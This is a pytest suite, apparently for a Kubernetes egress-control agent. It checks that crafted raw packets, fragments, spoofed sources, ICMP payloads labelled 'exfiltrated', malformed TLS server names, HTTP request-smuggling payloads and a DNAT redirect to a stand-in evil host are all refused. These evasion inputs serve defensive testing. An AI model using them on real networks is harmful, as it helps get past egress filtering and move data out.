"""The bypass table: what a pod might try instead of calling properly. Nothing undecided leaves, whichever way it is
tried; every refusal that can reach the client does so at once; calls that are odd and yet registered go where they may.
"""
import re
import signal
import socket
import time

import hello
import packets
import pytest
from lab import GATEWAY4, GATEWAY6, GATEWAY_OUT4
from namespaces import wait_for
from outside import DATABASE, EVIL, EVIL6, OTHER_DATABASE, OTHER_DATABASE6, WEB, WEB6
from packets import ACK, ICMP, ICMP6, PSH, RST, SYN, TCP, UDP
from pod import REFUSED_WITHIN_MS, receive_all, receive_exactly

SEED_HOST = "api.external-service.com"
FAMILIES = pytest.mark.parametrize("version", [4, 6])


def evil(version):
    return EVIL if version == 4 else EVIL6


def seen_by_pod(pod, act, wanted, timeout_s=REFUSED_WITHIN_MS / 1000):
    """Runs act(), and waits for a packet at the pod's interface for which wanted(packet)."""
    with pod.capture() as capture:
        act()
        return wait_for("an answer to the pod", lambda: [p for p in capture.drain() if wanted(p)], timeout_s)[0]


def is_unreachable(packet):
    return (packet.protocol, packet.icmp_type) in ((ICMP, 3), (ICMP6, 1))


# Packets by hand

@FAMILIES
@pytest.mark.parametrize("port", [9999, 5432])
def test_a_raw_syn_is_answered_with_a_reset(lab, watch, version, port):
    pod, address = lab.pod("a"), evil(version)
    source = pod.address(version)
    syn = packets.ip(source, address, TCP, packets.tcp(source, address, 40001, port, SYN, payload=b"data in the SYN"))
    answer = seen_by_pod(pod, lambda: pod.send_packet(syn), lambda p: p.flags & RST and p.dport == 40001)
    assert answer.source == address
    watch.nothing_left()


@FAMILIES
@pytest.mark.parametrize("flags", [ACK, ACK | PSH, RST, 1 | ACK, SYN | ACK, 0], ids=["ack", "data", "rst", "fin", "synack", "null"])
def test_a_raw_segment_of_no_connection_goes_nowhere(lab, watch, version, flags):
    pod, address = lab.pod("a"), evil(version)
    source = pod.address(version)
    for port in (443, 9999, 5432):
        segment = packets.tcp(source, address, 40002, port, flags, ack=1, payload=b"smuggled")
        pod.send_packet(packets.ip(source, address, TCP, segment))
    watch.nothing_left()


@FAMILIES
def test_a_raw_syn_to_a_registered_port_stays_on_the_node(lab, watch, version):
    pod, address = lab.pod("a"), evil(version)
    source = pod.address(version)
    pod.send_packet(packets.ip(source, address, TCP, packets.tcp(source, address, 40003, 443, payload=b"early")))
    watch.nothing_left()


@FAMILIES
@pytest.mark.parametrize("port", [443, 53, 5000])
def test_a_datagram_is_refused_at_once(lab, watch, version, port):
    pod, address = lab.pod("a"), evil(version)
    assert pod.refusal(address, port, socket.SOCK_DGRAM).at_once()
    denied = watch.record(event="deny", reason="udp_not_allowed", destination=re.compile(f":{port}$"))
    assert denied["pod"]["name"] == "a" and denied["verdict"] == "deny" and denied["protocol"] == "udp"
    watch.nothing_left()


@FAMILIES
def test_quic_of_a_registered_host_is_refused(lab, watch, version):
    web = WEB if version == 4 else WEB6
    assert lab.pod("a").refusal(web, 443, socket.SOCK_DGRAM).at_once()
    watch.nothing_left()


@FAMILIES
def test_a_raw_datagram_is_answered_unreachable(lab, watch, version):
    pod, address = lab.pod("a"), evil(version)
    source = pod.address(version)
    datagram = packets.ip(source, address, UDP, packets.udp(source, address, 40004, 443, b"data"))
    seen_by_pod(pod, lambda: pod.send_packet(datagram), is_unreachable)
    watch.nothing_left()


@FAMILIES
def test_an_icmp_echo_with_payload_goes_nowhere(lab, watch, version):
    pod, address = lab.pod("a"), evil(version)
    source = pod.address(version)
    echo = packets.echo_request(source, address, b"exfiltrated " * 20)
    pod.send_packet(packets.ip(source, address, packets.icmp_of(address), echo))
    denied = watch.record(event="deny", reason="protocol_not_allowed", **{"pod.name": "a"})
    assert denied["protocol"].startswith("icmp")
    watch.nothing_left()


@FAMILIES
@pytest.mark.parametrize("protocol", [47, 50, 132, 136, 4, 41], ids=["gre", "esp", "sctp", "udplite", "ipip", "ip6"])
def test_another_protocol_goes_nowhere(lab, watch, version, protocol):
    pod, address = lab.pod("a"), evil(version)
    pod.send_packet(packets.ip(pod.address(version), address, protocol, b"\0" * 32 + b"smuggled"))
    watch.record(event="deny", reason="protocol_not_allowed", **{"pod.name": "a"})
    watch.nothing_left()


@FAMILIES
def test_fragments_go_nowhere(lab, watch, version):
    pod, address = lab.pod("a"), evil(version)
    source = pod.address(version)
    datagram = packets.udp(source, address, 40005, 443, b"x" * 2000)
    segment = packets.tcp(source, address, 40005, 9999, SYN, payload=b"y" * 64)
    for protocol, whole, cut in ((UDP, datagram, 1024), (TCP, segment, 8), (TCP, segment, 24)):
        pod.send_packet(packets.ip(source, address, protocol, whole[:cut], identification=77, more_fragments=True))
        pod.send_packet(packets.ip(source, address, protocol, whole[cut:], identification=77, offset=cut))
    # Only the later part, which has no header at all; and a whole packet dressed as a fragment.
    pod.send_packet(packets.ip(source, address, TCP, segment, identification=78, offset=64))
    pod.send_packet(packets.ip(source, address, TCP, segment, identification=79, more_fragments=True))
    watch.nothing_left()


@FAMILIES
def test_a_datagram_fragmented_by_the_pods_own_kernel_goes_nowhere(lab, watch, version):
    with lab.pod("a").open_socket(socket.AF_INET if version == 4 else socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"z" * 4000, (evil(version), 5000))
    watch.nothing_left()


def test_ip_options_and_extension_headers_go_nowhere(lab, watch):
    pod = lab.pod("a")
    segment = packets.tcp(pod.ip4, EVIL, 40006, 443)
    for options in (b"\x94\x04\0\0", b"\x83\x07\x04" + bytes([203, 0, 113, 21]), b"\x07\x07\x04\0\0\0\0"):  # RA, LSRR, RR
        pod.send_packet(packets.ip(pod.ip4, EVIL, TCP, segment, options=options))
    segment = packets.tcp(pod.ip6, EVIL6, 40006, 443)
    for first in (0, 43, 60):  # hop-by-hop, routing, destination options
        extension = bytes([TCP, 0, 1, 4, 0, 0, 0, 0]) if first != 43 else bytes([TCP, 0, 253, 0, 0, 0, 0, 0])
        pod.send_packet(packets.ip(pod.ip6, EVIL6, TCP, segment, extension=extension, first_header=first))
    watch.nothing_left()


@FAMILIES
def test_a_vlan_tag_hides_nothing(lab, watch, version):
    pod, address = lab.pod("a"), evil(version)
    source = pod.address(version)
    for vlan in (0, 5):
        pod.send_packet(packets.ip(source, address, TCP, packets.tcp(source, address, 40007, 443)), vlan=vlan)
        pod.send_packet(packets.ip(source, address, UDP, packets.udp(source, address, 40007, 53, b"x")), vlan=vlan)
    watch.nothing_left()


@FAMILIES
def test_a_spoofed_source_goes_nowhere(lab, watch, version):
    pod, address = lab.pod("a"), evil(version)
    neighbour = lab.pod("b").address(version)
    node = "10.2.0.1" if version == 4 else "fd00:2::1"
    stranger = "203.0.113.77" if version == 4 else "2001:db8:77::1"
    for source in (neighbour, node, stranger):
        for port in (443, 9999):
            pod.send_packet(packets.ip(source, address, TCP, packets.tcp(source, address, 40008, port)))
        pod.send_packet(packets.ip(source, address, UDP, packets.udp(source, address, 40008, 5000, b"x")))
    denied = watch.record(event="deny", reason="source_spoofed")
    assert denied["pod"]["name"] == "a", "the interface tells who it was"
    watch.nothing_left()


@FAMILIES
def test_a_spoofed_source_does_not_pass_as_internal_traffic_either(lab, watch, version):
    pod = lab.pod("a")
    dns = lab.dns4 if version == 4 else lab.dns6
    for source in (lab.pod("b").address(version), "203.0.113.77" if version == 4 else "2001:db8:77::1"):
        pod.send_packet(packets.ip(source, dns, UDP, packets.udp(source, dns, 40009, 53, b"not from me")))
    watch.record(event="deny", reason="source_spoofed")
    assert not [p for p in watch.at_gateway() if p.sport == 40009]


def test_a_mapped_address_on_the_wire_goes_nowhere(lab, watch):
    pod, mapped = lab.pod("a"), f"::ffff:{EVIL}"
    for source in (pod.ip6, f"::ffff:{pod.ip4}"):
        for port in (443, 9999):
            pod.send_packet(packets.ip(source, mapped, TCP, packets.tcp(source, mapped, 40010, port)))
    watch.nothing_left()


@FAMILIES
def test_a_truncated_header_goes_nowhere(lab, watch, version):
    pod, address = lab.pod("a"), evil(version)
    source = pod.address(version)
    for size in (0, 4, 13, 19):
        pod.send_packet(packets.ip(source, address, TCP, packets.tcp(source, address, 40011, 443)[:size]))
    for size in (0, 4, 7):
        pod.send_packet(packets.ip(source, address, UDP, packets.udp(source, address, 40011, 53)[:size]))
    watch.nothing_left()


# Sockets

@FAMILIES
def test_an_unregistered_port_is_refused_at_once(lab, watch, version):
    assert lab.pod("a").refusal(evil(version), 9999).at_once()
    denied = watch.record(event="deny", reason="port_not_registered", destination=re.compile(":9999$"))
    assert denied["datapath"] == "kernel" and denied["pod"]["name"] == "a"
    watch.nothing_left()


@pytest.mark.parametrize("address", [OTHER_DATABASE, OTHER_DATABASE6])
def test_another_address_on_a_port_registered_by_address_is_refused_at_once(lab, watch, address):
    assert lab.pod("a").refusal(address, 5432).at_once()
    watch.record(event="deny", reason="address_not_registered", destination=re.compile(":5432$"))
    watch.nothing_left()


def test_a_mapped_connect_is_the_ipv4_connect(lab, watch):
    pod = lab.pod("a")
    for port, reason in ((9999, "port_not_registered"), (5432, "address_not_registered")):
        with pod.open_socket(socket.AF_INET6) as sock:
            sock.settimeout(5)
            with pytest.raises(ConnectionRefusedError):
                sock.connect((f"::ffff:{EVIL}", port))
        watch.record(event="deny", reason=reason, destination=f"{EVIL}:{port}")
    with pod.open_socket(socket.AF_INET6) as sock:
        sock.settimeout(5)
        sock.connect((f"::ffff:{EVIL}", 443))
        sock.sendall(hello.records(hello.client_hello(["evil.example"])))
        assert hello.answer(sock) == "alert unrecognized_name"
    watch.nothing_left()


@pytest.mark.parametrize("uid", [1, 1337, 65534])
def test_another_uid_is_judged_like_any(lab, watch, uid):
    done = lab.pod("a").curl("https://evil.example/", uid=uid)
    assert done.code == 35 and "unrecognized name" in done.error, done
    assert watch.record(event="deny", sni="evil.example")["process"]["comm"] == "curl"
    assert lab.pod("a").curl("http://evil.example/", "-o", "/dev/null", "-w", "%{http_code}", uid=uid).out == "403"
    watch.nothing_left()


# What the first bytes say

def tls_answer(pod, data, address=EVIL, chunks=None):
    """The answer to a crafted hello, and how long it took from the last byte on."""
    with pod.connect(address, 443) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for chunk in chunks or [data]:
            sock.sendall(chunk)
        start = time.monotonic()
        found = hello.answer(sock)
        assert hello.milliseconds_since(start) < REFUSED_WITHIN_MS
        return found


@FAMILIES
def test_a_name_that_lies_about_the_address_reaches_the_named_host(lab, watch, version):
    session = lab.pod("a").tls(evil(version), SEED_HOST)
    assert session.served_names() == [SEED_HOST]
    calls = {p.destination for p in watch.upstream_calls()}
    assert calls and calls <= {WEB, WEB6}
    assert not watch.leaks()


def test_a_host_that_lies_about_the_address_reaches_the_named_host(lab, watch):
    answer = lab.pod("a").http(EVIL, b"GET / HTTP/1.1\r\nHost: plain.example\r\nConnection: close\r\n\r\n")
    assert b"served plain.example at " in answer
    assert not {EVIL, EVIL6} & {p.destination for p in watch.upstream_calls()}
    assert not watch.leaks()


@pytest.mark.parametrize("name", ["API.External-Service.COM", "api.external-service.com."])
def test_case_and_a_trailing_dot_do_not_change_a_name(lab, watch, name):
    assert tls_answer(lab.pod("a"), hello.records(hello.client_hello([name])), WEB) == "server_hello"
    assert watch.record(event="open")["sni"] == SEED_HOST
    assert not watch.leaks()


@pytest.mark.parametrize("name", ["EVIL.Example", "evil.example.", "evil.example", "external-service.com", "xapi.external-service.com",
                                  "partner.example", "xpartner.example", "api.external-service.com.evil.example"])
def test_an_unregistered_name_is_denied_however_it_is_written(lab, watch, name):
    answer = tls_answer(lab.pod("a"), hello.records(hello.client_hello([name])))
    assert answer == "alert unrecognized_name"
    watch.record(event="deny", reason="host_not_registered", sni=name.lower().rstrip("."))
    watch.nothing_left()


@pytest.mark.parametrize("names", [
    [b"api.external-service.com\0.evil.example"], [b"evil.example\0api.external-service.com"], [b"\0"],
    [SEED_HOST, "evil.example"], ["evil.example", SEED_HOST], [SEED_HOST, SEED_HOST], [b""], ["a" * 64 + ".partner.example"],
    [b"a b.partner.example"], [b"*.partner.example"], [b"..partner.example"], [b"203.0.113.10"], [b"2001:db8:5::10"],
    ["x." * 130 + "partner.example"], [b"caf\xc3\xa9.partner.example"],
], ids=["nul-inside", "nul-after-evil", "nul", "two-names", "two-names-evil-first", "twice", "empty", "long-label", "space", "star",
        "dots", "ipv4", "ipv6", "too-long", "not-ascii"])
def test_a_name_that_is_none_is_refused(lab, watch, names):
    assert tls_answer(lab.pod("a"), hello.records(hello.client_hello(names)), WEB).startswith("alert ")
    assert watch.record(event="deny", destination=f"{WEB}:443")["reason"] == "hello_malformed"
    watch.nothing_left()


def test_two_server_name_extensions_are_refused(lab, watch):
    message = hello.client_hello([SEED_HOST], extra=hello.sni("evil.example"))
    assert tls_answer(lab.pod("a"), hello.records(message), WEB).startswith("alert ")
    assert watch.record(event="deny", destination=f"{WEB}:443")["reason"] == "hello_malformed"
    watch.nothing_left()


def test_a_hello_in_one_byte_segments_is_read(lab, watch):
    session = lab.pod("a").tls(WEB, SEED_HOST, shape=hello.one_byte_segments)
    assert session.get(SEED_HOST).endswith(f"from {GATEWAY_OUT4}\n".encode()) or session.served_names() == [SEED_HOST]
    assert watch.record(event="open", sni=SEED_HOST)["verdict"] == "allow"
    assert not watch.leaks()


def test_a_denied_hello_in_one_byte_segments_is_denied(lab, watch):
    data = hello.records(hello.client_hello(["evil.example"]))
    assert tls_answer(lab.pod("a"), None, chunks=hello.one_byte_segments(data)) == "alert unrecognized_name"
    watch.nothing_left()


@pytest.mark.parametrize("name,expected", [(SEED_HOST, "server_hello"), ("evil.example", "alert unrecognized_name")])
def test_a_hello_with_a_1700_byte_key_share_is_read(lab, watch, name, expected):
    assert tls_answer(lab.pod("a"), hello.records(hello.client_hello([name], share_bytes=1700))) == expected
    assert not watch.leaks()


def test_a_hello_in_three_records_is_read(lab, watch):
    session = lab.pod("a").tls(EVIL, SEED_HOST, shape=hello.three_records)
    assert session.served_names() == [SEED_HOST]
    assert not watch.leaks()


def test_a_denied_hello_in_three_records_is_denied(lab, watch):
    data = hello.three_records(hello.records(hello.client_hello(["evil.example"])))
    assert tls_answer(lab.pod("a"), data[0]) == "alert unrecognized_name"
    watch.nothing_left()


# HTTP

def test_a_second_request_with_another_host_is_denied_and_does_not_leave(lab, watch):
    with lab.pod("a").connect("203.0.113.13", 80) as sock:
        sock.sendall(b"GET /first HTTP/1.1\r\nHost: plain.example\r\n\r\n")
        first = b""
        while not first.endswith(b"\n") or b"served" not in first:
            first += sock.recv(4096)
        start = time.monotonic()
        sock.sendall(b"GET /second HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        second = receive_all(sock)
    assert hello.milliseconds_since(start) < REFUSED_WITHIN_MS
    assert first.startswith(b"HTTP/1.1 200 ") and second.startswith(b"HTTP/1.1 403 ")
    assert b"evil.example" in second and b"host_not_registered" in second
    watch.record(event="deny", reason="host_not_registered", **{"http.host": "evil.example", "http.path": "/second"})
    assert watch.seen_outside(b"/first") and not watch.seen_outside(b"/second") and not watch.seen_outside(b"evil.example")
    assert not watch.leaks()


def test_a_pipelined_second_request_with_another_host_does_not_leave(lab, watch):
    answer = lab.pod("a").http("203.0.113.13", b"GET /first HTTP/1.1\r\nHost: plain.example\r\n\r\n"
                               b"GET /second HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 200 ") and b"HTTP/1.1 403 " in answer
    assert not watch.seen_outside(b"/second") and not watch.leaks()


@pytest.mark.parametrize("body", [
    b"POST / HTTP/1.1\r\nHost: plain.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled",
    b"POST / HTTP/1.1\r\nHost: plain.example\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n/smuggled",
    b"POST / HTTP/1.1\r\nHost: plain.example\r\nTransfer-Encoding: xchunked\r\n\r\n/smuggled",
    b"GET /smuggled HTTP/1.1\r\nHost: plain.example\r\nHost: evil.example\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nHost : plain.example\r\n\r\n",
    b"GET /smuggled HTTP/1.1\r\nX: y\r\n folded\r\nHost: plain.example\r\n\r\n",
    b"GET /smuggled HTTP/1.1\nHost: plain.example\n\n",
    b"GET /smuggled HTTP/1.1\r\nHost: plain.example\0.evil.example\r\n\r\n",
    b"GET http://evil.example/smuggled HTTP/1.1\r\nHost: plain.example\r\n\r\n",
    b"GET http://plain.example@evil.example/smuggled HTTP/1.1\r\nHost: plain.example\r\n\r\n",
    b"CONNECT evil.example:443 HTTP/1.1\r\nHost: plain.example\r\n\r\n",
    b"CONNECT plain.example:80 HTTP/1.1\r\nHost: plain.example:80\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
], ids=["cl-te", "cl-cl", "te", "two-hosts", "space-colon", "folded", "bare-lf", "nul", "absolute", "userinfo", "connect",
        "connect-registered", "h2-preface"])
def test_an_http_request_of_two_meanings_is_refused(lab, watch, body):
    start = time.monotonic()
    answer = lab.pod("a").http("203.0.113.13", body)
    assert hello.milliseconds_since(start) < REFUSED_WITHIN_MS
    assert re.match(rb"HTTP/1\.1 (400|403) ", answer), answer
    assert watch.record(event="deny", destination="203.0.113.13:80")["reason"] in ("http_malformed", "host_mismatch")
    watch.nothing_left()


# Around the node

def test_a_cluster_ip_that_dnat_sends_outside_goes_nowhere(lab, watch):
    pod = lab.pod("a")
    rules = "\n".join(f"add rule inet sluice_lab nat ip daddr 10.96.0.99 {protocol} dport {port} dnat ip to {EVIL}:{port}\n"
                      f"add rule inet sluice_lab nat ip6 daddr fd00:96::99 {protocol} dport {port} dnat ip6 to [{EVIL6}]:{port}"
                      for protocol, port in (("tcp", 9999), ("tcp", 443), ("udp", 5000)))
    script = f"""add table inet sluice_lab
add chain inet sluice_lab nat {{ type nat hook prerouting priority dstnat; }}
{rules}
add chain inet sluice_lab masq {{ type nat hook postrouting priority srcnat; }}
add rule inet sluice_lab masq oifname eth0 masquerade"""
    lab.on_node("sh", "-c", f"nft -f - <<'RULES'\n{script}\nRULES")
    try:
        for address in ("10.96.0.99", "fd00:96::99"):
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            for port in (9999, 443):
                with pod.open_socket(family) as sock:
                    sock.settimeout(0.2)
                    with pytest.raises(OSError):
                        sock.connect((address, port))
            with pod.open_socket(family, socket.SOCK_DGRAM) as sock:
                sock.sendto(b"by way of a ClusterIP", (address, 5000))
        watch.nothing_left()
    finally:
        lab.on_node("nft", "delete", "table", "inet", "sluice_lab")


@pytest.mark.parametrize("address", [GATEWAY4, GATEWAY6])
def test_a_pod_that_talks_to_the_gateway_by_itself_does_not_reach_it(lab, watch, address):
    pod = lab.pod("a")
    source = pod.address(6 if ":" in address else 4)
    for port in (15443, 8080):
        assert pod.refusal(address, port).at_once()
    # 443 and 80 are registered for other names: a connection may open, to the agent.
    for port in (443, 80):
        try:
            with pod.connect(address, port) as sock:
                sock.sendall(hello.records(hello.client_hello(["evil.example"])))
                receive_all(sock)
        except OSError:
            pass
    assert pod.refusal(address, 15443, socket.SOCK_DGRAM).at_once()
    pod.send_packet(packets.ip(source, address, packets.icmp_of(address), packets.echo_request(source, address, b"x")))
    assert not [p for p in watch.at_gateway() if source in (p.source, p.destination)]
    assert not watch.upstream_calls()


def test_a_forged_answer_of_the_gateway_from_a_neighbour_does_not_arrive(lab):
    a, b = lab.pod("a"), lab.pod("b")
    with a.capture() as capture:
        b.send_packet(packets.ip(GATEWAY4, a.ip4, TCP, packets.tcp(GATEWAY4, a.ip4, 15443, 40012, RST)))
        b.send_packet(packets.ip(EVIL, a.ip4, TCP, packets.tcp(EVIL, a.ip4, 443, 40012, RST)))
        b.send_packet(packets.ip(b.ip4, a.ip4, UDP, packets.udp(b.ip4, a.ip4, 40012, 40013, b"honest")))
        seen = wait_for("the honest datagram", lambda: [p for p in capture.drain() if p.payload == b"honest"])
        assert seen and not [p for p in capture.packets() if p.protocol == TCP]


# Life of the agent and of pods; each leaves the agent running.

@FAMILIES
def test_a_connection_opened_before_the_agent_is_cut(lab, version):
    pod, address = lab.pod("a"), evil(version)
    lab.agent.stop()
    lab.detach()
    try:
        opened = [pod.connect(address, 9999), pod.connect(address, 443)]
        datagrams = pod.open_socket(socket.AF_INET if version == 4 else socket.AF_INET6, socket.SOCK_DGRAM)
        datagrams.connect((address, 5000))
        for sock in opened:
            sock.settimeout(5)
            sock.sendall(b"before")
        assert receive_exactly(opened[0], 6) == b"before"
    finally:
        lab.agent.start()
    with lab.watch() as watch, opened[0], opened[1], datagrams:
        datagrams.send(b"after")
        for sock in opened:
            start = time.monotonic()
            with pytest.raises(ConnectionError):
                for _ in range(200):
                    sock.sendall(b"after")
                    time.sleep(0.01)
            assert hello.milliseconds_since(start) < REFUSED_WITHIN_MS
        assert not [p for p in watch.leaks() if p.source == pod.address(version) and not p.flags & RST]
        watch.nothing_left()


def everything_is_refused(lab, watch, pod):
    """What a pod may expect of a node whose agent does not decide."""
    for address in (WEB, WEB6, EVIL, EVIL6, DATABASE):
        for port in (443, 80, 5432, 9999):
            assert pod.refusal(address, port).at_once(), f"{address}:{port} {pod.refusal(address, port)}"
        assert pod.refusal(address, 443, socket.SOCK_DGRAM).at_once()
    watch.nothing_left()


def test_with_the_agent_killed_everything_is_refused_at_once(lab, watch):
    pod = lab.pod("a")
    lab.agent.kill()
    try:
        everything_is_refused(lab, watch, pod)
        # And once more when the heartbeat is stale, which takes 3 s.
        time.sleep(3.5)
        everything_is_refused(lab, watch, pod)
    finally:
        lab.agent.start()
    assert pod.curl(f"https://{SEED_HOST}/").code == 0


def test_with_the_agent_stopped_everything_is_refused_at_once(lab, watch):
    lab.agent.stop()
    try:
        everything_is_refused(lab, watch, lab.pod("a"))
    finally:
        lab.agent.start()


def probe_everything(pod):
    """A few packets of each kind, without waiting for answers."""
    for version in (4, 6):
        source, address = pod.address(version), evil(version)
        for port in (443, 9999):
            pod.send_packet(packets.ip(source, address, TCP, packets.tcp(source, address, 40020, port)))
        pod.send_packet(packets.ip(source, address, UDP, packets.udp(source, address, 40020, 5000, b"x")))
        pod.send_packet(packets.ip(source, address, packets.icmp_of(address), packets.echo_request(source, address, b"x")))


def test_a_new_pod_while_no_agent_runs_reaches_nothing(lab, watch):
    lab.agent.kill()
    try:
        pod = lab.add_pod("c", "my-namespace", 12)
        try:
            probe_everything(pod)
            watch.nothing_left()
        finally:
            lab.remove_pod("c")
    finally:
        lab.agent.start()


def test_a_new_pod_reaches_nothing_before_it_is_attached_and_nothing_after(lab, watch):
    lab.agent.send_signal(signal.SIGSTOP)
    try:
        pod = lab.add_pod("d", "my-namespace", 13)
        probe_everything(pod)
        watch.nothing_left()
    finally:
        lab.agent.send_signal(signal.SIGCONT)
    try:
        wait_for("the new interface to be attached", lambda: pod.refusal(EVIL, 9999).error == "ConnectionRefusedError", 5, 0.05)
        probe_everything(pod)
        watch.nothing_left()
    finally:
        lab.remove_pod("d")


def test_a_new_interface_is_attached_within_milliseconds(lab, watch):
    pod = lab.add_pod("e", "my-namespace", 14)
    try:
        start = time.monotonic()
        # The first SYN may still meet the guard alone; sent again, it is refused.
        wait_for("the new interface to be attached", lambda: _syn_refused(pod), 2, 0)
        assert hello.milliseconds_since(start) < 500
        watch.nothing_left()
    finally:
        lab.remove_pod("e")


def _syn_refused(pod):
    with pod.open_socket() as sock:
        sock.settimeout(0.02)
        try:
            sock.connect((EVIL, 9999))
        except ConnectionRefusedError:
            return True
        except OSError:
            return False
    return False
